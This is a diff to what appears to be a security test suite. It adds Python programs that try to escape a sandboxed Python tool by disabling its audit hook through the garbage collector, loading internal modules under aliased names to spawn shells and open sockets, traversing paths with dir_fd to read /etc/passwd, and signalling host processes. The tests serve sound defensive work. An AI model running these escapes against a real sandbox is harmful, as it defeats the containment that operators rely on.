@@ -403,3 +403,289 @@ def summarize(outcomes: list[Outcome]) -> list[dict]:
                      "median_ms_benign": 1000 * statistics.median([o.seconds for o in ben]) if ben else float("nan"),
                      "median_ms_all": 1000 * statistics.median([o.seconds for o in mine])})
     return rows
+
+
+# ---- escapes from the Python tool's process: what the OS sandbox must stop -------------------------------
+# Each program prints ``ESCAPED: ...`` when it gets past the boundary (reads a host secret, writes or
+# creates something on the host, reaches the network, starts a process, signals a host process, holds
+# memory beyond its limits). They run with the audit hook installed, as in production, and switch it off
+# themselves where they need to (``UNHOOK``: the hook's closure is found through the garbage collector
+# and its code replaced). ``old_design``: the attack succeeds against the audit-hook design, i.e. with
+# ``unsafe_no_sandbox=True, drop_privileges=False`` (what a non-root user got; as root the uid drop held
+# some of them, by accident of file permissions) — the tests check that too, so each case is a real
+# attack and not one that fails for an unrelated reason. Placeholders: {token} (names what an attack
+# creates), {host_pid} (the host process), {port} (a TCP listener on 127.0.0.1), {abstract} (an abstract
+# Unix socket), {canary} (a file in the host's /tmp), {hostname}, {limit_mb} (memory_mb + disk_mb).
+
+UNHOOK = '''
+import gc, sys
+def _mk(hook, marker):
+    def guarded(event, args):
+        return (hook, marker) and None
+    return guarded
+for _o in gc.get_objects():
+    if type(_o).__name__ == "function" and _o.__name__ == "guarded" and _o.__code__.co_filename == "<string>":
+        _o.__code__ = _mk(None, None).__code__
+sys.meta_path[:] = [f for f in sys.meta_path if getattr(f, "__name__", "") != "_Refuse"]
+for _k in [k for k, v in list(sys.modules.items()) if v is None]:
+    del sys.modules[_k]
+'''
+
+ALIAS = '''
+def load_alias(name):
+    import glob, importlib.machinery, importlib.util, os, sys
+    for d in sys.path:
+        for p in glob.glob(os.path.join(d, name + ".*so")):
+            full = "alias." + name  # the init symbol comes from the last component: PyInit_<name>
+            loader = importlib.machinery.ExtensionFileLoader(full, p)
+            m = importlib.util.module_from_spec(importlib.util.spec_from_file_location(full, p, loader=loader))
+            loader.exec_module(m)
+            return m
+    raise ImportError(name)
+'''
+
+
+@dataclass(frozen=True)
+class Escape:
+    name: str
+    code: str
+    old_design: bool  # the attack gets through the audit-hook design (demonstrated by the tests)
+    note: str = ""
+
+
+SANDBOX_ESCAPES = [
+    Escape("unhook_then_read_and_write", UNHOOK + '''
+import os
+got = []
+try:
+    if "root:" in open("/etc/passwd").read():
+        got.append("read /etc/passwd")
+except OSError as e:
+    print("passwd:", type(e).__name__)
+try:
+    if "etc" in os.listdir("/"):
+        got.append("listed the host's /")
+except OSError as e:
+    print("listdir:", type(e).__name__)
+try:
+    with open("/tmp/dodai-attack-{token}", "w") as f:
+        f.write("x")
+    got.append("created /tmp/dodai-attack-{token}")
+except OSError as e:
+    print("create:", type(e).__name__)
+try:
+    with open("{canary}", "a") as f:
+        f.write("pwned")
+    got.append("appended to the canary")
+except OSError as e:
+    print("canary:", type(e).__name__)
+print("ESCAPED:" if got else "held:", got)
+''', True, "the audit hook switched off from inside through gc, then host files read and written"),
+    Escape("alias_extension_spawn", ALIAS + '''
+import os
+pp = load_alias("_posixsubprocess")
+r, w = os.pipe()
+try:
+    pid = pp.fork_exec([b"/bin/sh", b"-c", b"echo ESCAPED: a shell ran"], [b"/bin/sh"], True, (w,), None, None,
+                       -1, -1, -1, w, -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)
+    os.close(w)
+    print(os.read(r, 200).decode() or "ESCAPED: a process was created")
+    os.waitpid(pid, 0)
+except OSError as e:
+    print("fork_exec:", type(e).__name__, e)
+''', True, "_posixsubprocess loaded under another module name: fork_exec raises no audit event"),
+    Escape("unhook_alias_socket", UNHOOK + ALIAS + '''
+got = []
+sk = load_alias("_socket")
+try:
+    s = sk.socket(sk.AF_INET, sk.SOCK_STREAM)
+    s.settimeout(2)
+    s.connect(("127.0.0.1", {port}))
+    got.append("connected to 127.0.0.1:{port}")
+except OSError as e:
+    print("tcp:", type(e).__name__, e)
+try:
+    u = sk.socket(sk.AF_UNIX, sk.SOCK_STREAM)
+    u.settimeout(2)
+    u.connect("\\0{abstract}")
+    got.append("connected to the host's abstract socket")
+except OSError as e:
+    print("unix:", type(e).__name__, e)
+print("ESCAPED:" if got else "held:", got)
+''', True, "hook off + _socket loaded under another name: TCP and abstract Unix sockets of the host"),
+    Escape("dir_fd_relative_paths", '''
+import os
+os.makedirs("a/b/c/d/e/f/g/h")
+top = os.open(".", os.O_RDONLY)
+os.chdir("a/b/c/d/e/f/g/h")  # the hook resolves relative paths against the cwd, the kernel against dir_fd
+up = "../" * 8
+got = []
+try:
+    fd = os.open(up + "etc/passwd", os.O_RDONLY, dir_fd=top)
+    if b"root:" in os.read(fd, 65536):
+        got.append("read /etc/passwd")
+except OSError as e:
+    print("read:", type(e).__name__)
+try:
+    fd = os.open(up + "tmp/dodai-attack-{token}", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=top)
+    os.write(fd, b"x")
+    got.append("created /tmp/dodai-attack-{token}")
+except OSError as e:
+    print("create:", type(e).__name__)
+try:
+    fd = os.open(up + "tmp", os.O_RDONLY, dir_fd=top)
+    if os.listdir(fd):
+        got.append("listed the host's /tmp")
+except OSError as e:
+    print("list:", type(e).__name__)
+print("ESCAPED:" if got else "held:", got)
+''', True, "relative paths with dir_fd= are checked against the cwd, not against the directory opened"),
+    Escape("symlinks_for_host_cleanup", UNHOOK + '''
+import os
+for target, name in (("/tmp", "ln_tmp"), ("{canary}", "ln_canary"), ("/", "ln_root"), ("/tmp", "ln_loop")):
+    os.symlink(target, name)
+os.mkdir("locked")
+os.symlink("/tmp", "locked/ln_tmp")
+os.symlink("{canary}", "locked/ln_canary")
+os.mkdir("locked/inner")
+os.chmod("locked/inner", 0)
+os.chmod("locked", 0)
+os.mkdir("readonly")
+os.symlink("/tmp", "readonly/ln_tmp")
+os.chmod("readonly", 0o500)
+os.mkfifo("fifo")
+os.chmod(".", 0o500)
+print("planted")
+''', False, "symlinks to /tmp and the canary inside unreadable/unwritable dirs: bait for a host-side cleanup"),
+    Escape("deep_directory_tree", '''
+import os
+fd = os.open(".", os.O_RDONLY)
+for i in range(3000):
+    os.mkdir("d", dir_fd=fd)
+    nfd = os.open("d", os.O_RDONLY, dir_fd=fd)
+    os.close(fd)
+    fd = nfd
+print("depth 3000")
+''', False, "a tree deeper than the host's recursion limit, to crash a recursive cleanup"),
+    Escape("memfd_and_shm_beyond_limits", ALIAS + '''
+import os
+MB = 2**20
+held = 0
+fds = []
+try:
+    for i in range(60):
+        fd = os.memfd_create("m%d" % i)
+        for _ in range(8):
+            os.write(fd, b"x" * MB)
+        fds.append(fd)
+        held += 8 * MB
+except OSError as e:
+    print("memfd:", type(e).__name__, e)
+try:
+    shm = load_alias("_posixshmem")
+    fd = shm.shm_open("/dodai-attack-{token}", os.O_RDWR | os.O_CREAT, 0o600)
+    for _ in range(8):
+        os.write(fd, b"x" * MB)
+    held += 8 * MB
+    print("ESCAPED: a /dev/shm segment that outlives the run")
+except OSError as e:
+    print("shm_open:", type(e).__name__, e)
+written = 0
+try:
+    for i in range(60):
+        with open("fill%d" % i, "wb") as f:
+            for _ in range(8):
+                f.write(b"x" * MB)
+                written += MB
+except OSError as e:
+    print("fill:", type(e).__name__)
+print("held MB", held // MB, "written MB", written // MB)
+if held + written > {limit_mb} * MB:
+    print("ESCAPED: holds", (held + written) // MB, "MB outside the address-space limit")
+''', True, "memfd files and /dev/shm segments hold memory the address-space limit does not count"),
+    Escape("nss_user_database", '''
+import os, pwd, grp
+users, groups = pwd.getpwall(), grp.getgrall()
+print(len(users), "users", len(groups), "groups")
+got = [u.pw_name for u in users] + [g.gr_name for g in groups]
+if os.uname().nodename == "{hostname}":
+    got.append("the host name")
+print("ESCAPED:" if got else "held:", got[:5])
+''', True, "the user and group databases (and the host name) read through NSS: no open event"),
+    Escape("proc_and_signals", UNHOOK + '''
+import os, signal
+got = []
+if os.path.exists("/proc/{host_pid}"):
+    got.append("sees the host process in /proc")
+try:
+    os.kill({host_pid}, 0)
+    got.append("may signal the host process")
+except ProcessLookupError:
+    pass
+except PermissionError:
+    got.append("sees the host process")
+try:
+    with open("/proc/self/mountinfo") as f:
+        got.append("reads /proc (%d mounts)" % len(f.readlines()))
+except OSError as e:
+    print("proc:", type(e).__name__)
+if os.getppid() != {host_pid}:
+    try:
+        os.kill(os.getppid(), signal.SIGKILL)  # inside the pid namespace: bwrap's reaper, which ignores it
+    except OSError as e:
+        print("kill parent:", type(e).__name__)
+print("ESCAPED:" if got else "held:", got)
+''', True, "host processes seen and signalled; the parent killed"),
+    Escape("processes_and_threads", UNHOOK + '''
+import os, threading, time
+got = []
+try:
+    pid = os.fork()
+    if pid == 0:
+        os._exit(0)
+    os.waitpid(pid, 0)
+    got.append("fork")
+except OSError as e:
+    print("fork:", type(e).__name__)
+try:
+    t = threading.Thread(target=time.sleep, args=(0,))
+    t.start()
+    t.join()
+    got.append("thread")
+except RuntimeError as e:
+    print("thread:", e)
+try:
+    pid = os.posix_spawn("/bin/true", ["true"], {})
+    os.waitpid(pid, 0)
+    got.append("posix_spawn")
+except OSError as e:
+    print("spawn:", type(e).__name__)
+print("ESCAPED:" if got else "held:", got)
+''', True, "fork, threads and posix_spawn with the hook off"),
+    Escape("write_outside_the_work_dir", UNHOOK + '''
+import os, sys
+got = []
+stdlib = os.path.dirname(os.__file__)
+for d in ("/", "/dev", stdlib, os.path.dirname(sys.executable)):
+    p = os.path.join(d, "dodai-attack-{token}")
+    try:
+        fd = os.open(p, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
+        os.close(fd)
+        os.unlink(p)
+        got.append("created a file in " + d)
+    except OSError as e:
+        print(d, type(e).__name__)
+try:
+    fd = os.open(os.__file__, os.O_WRONLY)  # no O_TRUNC: opening is the test, nothing is written
+    os.close(fd)
+    got.append("opened the stdlib for writing")
+except OSError as e:
+    print("stdlib:", type(e).__name__)
+try:
+    os.chmod(os.__file__, os.stat(os.__file__).st_mode & 0o7777)  # the same mode: a no-op if it works
+    got.append("chmod on the stdlib")
+except OSError as e:
+    print("chmod:", type(e).__name__)
+print("ESCAPED:" if got else "held:", got)
+''', False, "files created or opened for writing outside the work dir (the interpreter's own files)"),
+]
